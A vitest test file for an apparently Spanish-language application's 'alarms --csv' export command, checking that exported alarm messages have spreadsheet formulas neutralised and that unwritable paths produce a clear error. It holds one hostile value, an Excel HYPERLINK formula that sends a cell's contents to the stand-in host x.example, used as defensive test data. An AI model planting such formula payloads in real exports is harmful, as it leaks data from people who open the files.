import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../fixtures/server.ts';
import { openDatabase } from '../store/database.ts';
import { ALARM_CSV_HEADER } from './alarm-csv.ts';

const REPO_ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const CLI = fileURLToPath(new URL('../cli.ts', import.meta.url));

/** A message as a hostile workstation could make it: a formula that would call out from Excel. */
const HOSTILE_MESSAGE = '=HYPERLINK("http://x.example/?"&A1;"clic")';

function runCli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ['--import', 'tsx', CLI, ...args], { cwd: REPO_ROOT, env: { ...process.env, GESTIONA_LOG_LEVEL: 'silent' } });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

describe('alarms --csv', () => {
  let dir: ReturnType<typeof tempDir>;
  let dbPath: string;

  beforeAll(() => {
    dir = tempDir();
    dbPath = join(dir.path, 'server.sqlite');
    const { db } = openDatabase(dbPath);
    db.prepare(
      `INSERT INTO alarms (kind, workstation_id, agent_id, debtor_id, event_id, decision_id, detail, message, created_at)
       VALUES ('clock', '@ws-1', 'u1', NULL, NULL, NULL, '{}', ?, '2026-12-04T15:00:00.000Z')`,
    ).run(HOSTILE_MESSAGE);
    db.close();
  });

  afterAll(() => {
    dir.remove();
  });

  it('writes the alarms with formulas neutralised', async () => {
    const file = join(dir.path, 'alarmas.csv');
    const result = await runCli(['alarms', '--db', dbPath, '--csv', file]);

    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout.trim()).toBe(`1 alarma exportada a ${file}.`);
    const text = readFileSync(file, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const [header, row] = parse(text, { delimiter: ';', bom: true }) as string[][];
    expect(header).toEqual([...ALARM_CSV_HEADER]);
    expect(row![1]).toBe('04/12/2026 10:00');
    expect(row![3]).toBe("'@ws-1");
    expect(row![6]).toBe(`'${HOSTILE_MESSAGE}`);
  });

  it('names the file it cannot write', async () => {
    const file = join(dir.path, 'no-existe', 'alarmas.csv');
    const result = await runCli(['alarms', '--db', dbPath, '--csv', file]);

    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`No se pudo escribir "${file}"`);
    expect(result.stderr).toContain('Revise que la carpeta exista');
  });
});
